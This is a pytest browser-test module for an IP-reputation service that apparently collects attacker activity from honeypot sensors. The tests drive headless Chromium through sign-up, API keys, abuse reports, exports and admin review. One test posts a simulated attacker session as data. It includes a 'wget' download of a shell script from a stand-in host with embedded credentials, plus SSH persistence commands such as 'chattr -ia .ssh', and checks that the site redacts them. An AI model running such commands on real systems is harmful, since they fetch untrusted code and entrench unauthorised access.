"""The web site in a real browser: headless Chromium against `sikker serve`.

One Chromium for the whole module (Debian's ``chromium`` driven by
Playwright; ``scripts/setup --test`` installs both), one server on loopback
with `sikker build --follow` beside it, as ``sikker demo`` runs them. Each
test gets a fresh browser context (its own cookies). Screenshots of the main
pages go to ``$SIKKER_SCREENSHOTS`` (default: ``sikker-screenshots`` in the
temporary directory). In CI a missing browser fails the tests; elsewhere it
skips them.
"""

import os
import re
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson
import pytest

from sikker.core.twins import truthy
from tests.factories import PASSWORD, api_key
from tests.test_gunicorn import get
from tests.test_incremental import PERSISTENCE, session
from tests.test_live import live_server, post

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CHROMIUM = os.environ.get("SIKKER_CHROMIUM", "/usr/bin/chromium")
ADMIN = "admin@example.com"
#: Chromium flags: headless on a server, nothing talking to the outside.
FLAGS = [
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-default-apps",
    "--disable-extensions",
    "--disable-sync",
    "--no-first-run",
    "--disable-dev-shm-usage",
    "--metrics-recording-only",
]
WIDTHS = {"desktop": (1280, 900), "phone": (390, 844)}


def _playwright() -> Any:
    """Return playwright's sync API, or skip (fail in CI) when it cannot run."""
    problem = None
    try:
        from playwright.sync_api import sync_playwright
    except ImportError as ex:
        problem = f"the playwright package is missing ({ex})"
    if problem is None and not os.access(CHROMIUM, os.X_OK):
        problem = f"{CHROMIUM} is missing (apt-get install chromium)"
    if problem is not None:
        if truthy(os.environ.get("CI")):
            pytest.fail(
                f"browser tests cannot run: {problem}; run scripts/setup --test"
            )
        pytest.skip(problem)
    return sync_playwright


@pytest.fixture(scope="module")
def shots() -> Path:
    folder = Path(
        os.environ.get("SIKKER_SCREENSHOTS")
        or Path(tempfile.gettempdir()) / "sikker-screenshots"
    )
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A demo snapshot served by gunicorn with a live builder beside it."""
    data = tmp_path_factory.mktemp("site")
    limits = {"web_lookups_per_minute": "1000", "web_previews_per_minute": "1000"}
    with live_server(data, admin_emails=ADMIN, **limits) as (base, token, key):
        api_key(data, ADMIN)  # the administrator signs in with PASSWORD
        yield {"base": base, "key": key, "token": token, "data": data}


@pytest.fixture(scope="module")
def browser(site: dict[str, Any]) -> Iterator[Any]:
    """One headless Chromium for the module."""
    sync_playwright = _playwright()
    args = [*FLAGS, *(["--no-sandbox"] if os.geteuid() == 0 else [])]
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=args)
        yield chromium
        chromium.close()


class Tab:
    """A page of a fresh context that records every console error."""

    def __init__(self, browser: Any, base: str, width: str = "desktop") -> None:
        w, h = WIDTHS[width]
        self.context = browser.new_context(
            viewport={"width": w, "height": h}, accept_downloads=True
        )
        self.page = self.context.new_page()
        self.base = base
        self.errors: list[str] = []
        self.page.on(
            "console",
            lambda m: (
                self.errors.append(f"console: {m.text}") if m.type == "error" else None
            ),
        )
        self.page.on("pageerror", lambda ex: self.errors.append(f"page: {ex}"))
        self.page.on("requestfailed", self._failed)

    def _failed(self, request: Any) -> None:
        # Leaving a page aborts what it still loads (the icon, say), and a link
        # that downloads a file aborts its navigation: neither is an error.
        if request.failure != "net::ERR_ABORTED":
            self.errors.append(f"failed: {request.url} {request.failure}")

    def go(self, path: str) -> Any:
        """Open a page of the site; return the response."""
        return self.page.goto(self.base + path)

    def sign_up(self, email: str) -> None:
        """Create an account through the form (and stay signed in)."""
        self.go("/signup")
        self.page.fill("#email", email)
        self.page.fill("#password", PASSWORD)
        with self.page.expect_navigation():
            self.page.click("form[action='/signup'] button[type=submit]")
        assert self.page.url.endswith("/account"), self.page.url

    def sign_in(self, email: str) -> None:
        """Sign in through the form."""
        self.go("/signin")
        self.page.fill("#email", email)
        self.page.fill("#password", PASSWORD)
        with self.page.expect_navigation():
            self.page.click("form[action='/signin'] button[type=submit]")
        assert self.page.url.endswith("/account"), self.page.url

    def close(self) -> None:
        """Close the context."""
        self.context.close()


@pytest.fixture
def tab(browser: Any, site: dict[str, Any]) -> Iterator[Tab]:
    opened = Tab(browser, site["base"])
    yield opened
    opened.close()
    assert not opened.errors, opened.errors


def api(site: dict[str, Any], path: str, key: str | None = None) -> Any:
    status, body = get(site["base"] + path, key or site["key"])
    assert status == 200, (path, status, body[:300])
    return orjson.loads(body)


def top_ip(site: dict[str, Any]) -> str:
    listed = api(site, "/v1/key/blacklist?scoreMinimum=80&limit=1")
    return str(listed["data"][0]["ip"])


def test_a_lookup_shows_the_apis_score_and_why(tab: Tab, site: dict[str, Any]) -> None:
    ip = top_ip(site)
    tab.go("/")
    tab.page.fill("#ip", ip)
    with tab.page.expect_navigation():
        tab.page.press("#ip", "Enter")
    answer = api(site, f"/v1/key/check/{quote(ip)}?explain=true")
    assert tab.page.inner_text(".score .big") == str(answer["confidenceLevel"])
    assert f"Why the score is {answer['confidenceLevel']}" in tab.page.content()
    rows = tab.page.locator("#h-why ~ .table-wrap tbody tr")
    assert rows.count() == len(answer["scoreBreakdown"]) - 1
    for behavior in answer["behaviors"]:
        assert tab.page.get_by_role("link", name=behavior["name"]).count() >= 1


def test_sign_up_create_a_key_and_use_it_with_the_api(
    tab: Tab, site: dict[str, Any]
) -> None:
    tab.sign_up("keys@example.com")
    tab.page.fill("#key-name", "firewall")
    with tab.page.expect_navigation():
        tab.page.click("form[action='/account/keys'] button[type=submit]")
    key = tab.page.input_value("#new-key")
    assert key.startswith("sk_live_")
    status = api(site, "/v1/key/status", key)
    assert status["account"]["email"] == "keys@example.com"
    tab.go("/account")
    assert key not in tab.page.content()
    assert tab.page.get_by_text("firewall").count() == 1


def test_a_report_changes_the_score_within_seconds(
    tab: Tab, site: dict[str, Any]
) -> None:
    ip = "45.33.99.77"
    tab.sign_up("reporter@example.com")
    tab.go(f"/lookup?ip={ip}")
    assert tab.page.inner_text(".score .big") == "0"
    tab.go(f"/report?ip={ip}")
    tab.page.select_option("#category", "brute_force")
    tab.page.select_option("#protocol", "ssh")
    tab.page.fill("#comment", "hammered our SSH from this address")
    with tab.page.expect_navigation():
        tab.page.click("form[action='/report'] button[type=submit]")
    assert "reported as" in tab.page.inner_text("[role=status]")
    started = time.monotonic()
    while True:
        tab.go(f"/lookup?ip={ip}")
        if tab.page.inner_text(".score .big") != "0":
            break
        assert time.monotonic() - started < 15, "the report did not show up"
        time.sleep(0.3)
    answer = api(site, f"/v1/key/check/{ip}")
    assert tab.page.inner_text(".score .big") == str(answer["confidenceLevel"])
    assert answer["reports"]["total"] == 1
    assert "hammered our SSH" in tab.page.content()


def test_the_export_tool_downloads_what_the_api_answers(
    tab: Tab, site: dict[str, Any]
) -> None:
    tab.sign_up("exporter@example.com")
    tab.go("/export")
    page = tab.page
    before = page.inner_text("#count")
    page.click("button[data-add=onlyCountries] >> nth=0")
    page.check("input[name=protocols][value=ssh]")
    page.locator("#scoreMinimum").evaluate(
        "el => { el.value = '30';"
        " el.dispatchEvent(new Event('input', {bubbles: true})) }"
    )
    page.wait_for_function(
        "() => document.getElementById('api-url').value.includes('scoreMinimum=30')"
    )
    url = page.input_value("#api-url")
    assert url.startswith(site["base"] + "/v1/key/blacklist?")
    assert "protocols=ssh" in url and "onlyCountries=" in url
    path = url[len(site["base"]) :]
    status, listed = get(site["base"] + path, site["key"])
    assert status == 200 and listed
    expected = len(listed.decode().splitlines())
    assert page.inner_text("#count") == f"{expected:,}"
    assert page.inner_text("#count") != before
    with page.expect_download() as info:
        page.click("#download")
    downloaded = Path(info.value.path()).read_bytes()
    assert downloaded == listed
    bars = page.locator("[data-histogram] li")
    assert bars.count() == 10
    assert page.locator("[data-histogram] li.in").count() == 7  # 30-39 ... 90-100
    cron = page.input_value("#cron")
    assert cron.startswith("17 * * * * curl") and url in cron


def test_removal_requests_reach_the_administrator(
    browser: Any, tab: Tab, site: dict[str, Any]
) -> None:
    ip = top_ip(site)
    tab.go(f"/removal?ip={ip}")
    tab.page.fill("#email", "owner@example.net")
    tab.page.fill("#reason", "This address was reassigned to us last week.")
    with tab.page.expect_navigation():
        tab.page.click("form[action='/removal'] button[type=submit]")
    request_id = re.search(r"rr_[0-9a-f]+", tab.page.inner_text("[role=status]"))
    assert request_id
    admin = Tab(browser, site["base"])
    try:
        admin.sign_in(ADMIN)
        admin.go("/admin/removals")
        item = admin.page.locator("li", has_text=request_id.group(0))
        with admin.page.expect_navigation():
            item.get_by_role("button", name="Approve").click()
        admin.go("/admin/removals?status=approved")
        assert request_id.group(0) in admin.page.content()
        assert not admin.errors, admin.errors
    finally:
        admin.close()


def test_the_catalog_shows_sanitised_evidence_and_the_landscape_activity(
    tab: Tab, site: dict[str, Any]
) -> None:
    commands = [*PERSISTENCE, "wget http://admin:hunter2@198.51.100.7/x.sh"]
    events = session("45.33.99.79", "web-2", commands)
    post(
        site["base"] + "/v1/sensor/events",
        site["token"],
        b"\n".join(orjson.dumps(e) for e in events),
    )
    started = time.monotonic()
    while True:
        tab.go("/catalog/ssh-key-persistence-chattr")
        if "chattr -ia .ssh" in tab.page.content():
            break
        assert time.monotonic() - started < 15, "no example after 15 s"
        time.sleep(0.3)
    assert tab.page.get_by_role("link", name="45.33.99.79").count() == 1
    tab.go("/landscape")
    assert tab.page.locator("svg polyline.series").count() >= 1
    legend = tab.page.inner_text(".legend")
    assert "ssh" in legend
    assert tab.page.get_by_text("root", exact=True).count() >= 1
    tab.go("/catalog/ingress-tool-transfer")  # the download primitive's page
    content = tab.page.content()
    assert "wget http://[redacted]@[ip]/x.sh" in content
    assert "hunter2" not in content and "198.51.100.7" not in content


def test_every_page_renders_without_console_errors(
    browser: Any, site: dict[str, Any], shots: Path
) -> None:
    ip = top_ip(site)
    events = session("45.33.99.78", "web-1", PERSISTENCE)
    post(
        site["base"] + "/v1/sensor/events",
        site["token"],
        b"\n".join(orjson.dumps(e) for e in events),
    )
    behavior = api(site, f"/v1/key/check/{quote(ip)}")["behaviors"][0]["id"]
    public = {
        "home": "/",
        "lookup": f"/lookup?ip={quote(ip)}",
        "export": "/export?onlyCountries=CN,US&scoreMinimum=60",
        "catalog": "/catalog",
        "behavior": f"/catalog/{behavior}",
        "landscape": "/landscape",
        "signin": "/signin",
        "signup": "/signup",
        "removal": "/removal",
        "missing": "/no/such/page",
    }
    private = {
        "account": "/account",
        "report": "/report",
        "bulk-report": "/bulk-report",
        "admin-removals": "/admin/removals",
    }
    for width in WIDTHS:
        tab = Tab(browser, site["base"], width)
        try:
            if width == "desktop":
                tab.sign_in(ADMIN)
            else:
                tab.sign_up(f"pages-{width}@example.com")
            for name, path in {**public, **private}.items():
                response = tab.go(path)
                expected = 404 if name == "missing" else 200
                if name == "admin-removals" and width != "desktop":
                    expected = 403
                assert response.status == expected, (path, response.status)
                assert tab.page.locator("main h1").count() == 1, path
                wide = tab.page.evaluate("document.documentElement.scrollWidth")
                assert wide <= WIDTHS[width][0], (path, width, wide)  # no sideways
                tab.page.screenshot(
                    path=str(shots / f"{name}-{width}.png"), full_page=True
                )
            assert not [e for e in tab.errors if "status of 40" not in e], tab.errors
        finally:
            tab.close()
    assert (shots / "landscape-desktop.png").stat().st_size > 0
